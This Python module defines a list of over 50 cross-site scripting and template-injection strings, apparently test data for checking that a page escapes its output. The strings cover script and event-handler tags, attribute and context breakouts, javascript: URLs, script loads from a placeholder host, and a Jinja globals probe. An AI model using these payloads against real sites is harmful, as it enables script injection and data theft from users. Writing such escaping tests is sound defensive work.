"""Texts that would run as code on a page that forgot to escape them somewhere."""

from __future__ import annotations

__all__ = ["PAYLOADS"]

_RUN = "alert(1)"

PAYLOADS = (
    # elements
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script\x0c>{_RUN}</script\x0c>",
    f"<script/x>{_RUN}</script>",
    "<script src=//example.invalid/x.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}">',
    f"<img/src=x/onerror={_RUN}>",
    f"<img src=x onerror=&#97;lert(1)>{_RUN}",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={_RUN} attributeName=x>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN} id=x>click</a>",
    f"<form action=javascript:{_RUN}><input type=submit autofocus></form>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<base href=//example.invalid/>",
    "<link rel=stylesheet href=//example.invalid/x.css>",
    "<style>@import '//example.invalid/x.css';</style>",
    "<style>*{background:url(//example.invalid/x)}</style>",
    # out of attributes
    f'" onmouseover="{_RUN}',
    f"' onmouseover='{_RUN}",
    f'" autofocus onfocus="{_RUN}" x="',
    f'"><img src=x onerror={_RUN}>',
    f"'><svg onload={_RUN}>",
    f"`><img src=x onerror={_RUN}>",
    f'" style="animation:x" onanimationstart="{_RUN}',
    # out of places with rules of their own
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"</template><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    # out of strings and templates
    f"';{_RUN};//",
    f"${{{_RUN}}}",
    "{{ cycler.__init__.__globals__ }}{% for x in () %}",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"javascript:{_RUN}",
)
"""At least 50 of them; each is inert where it stays text."""

assert len(PAYLOADS) >= 50
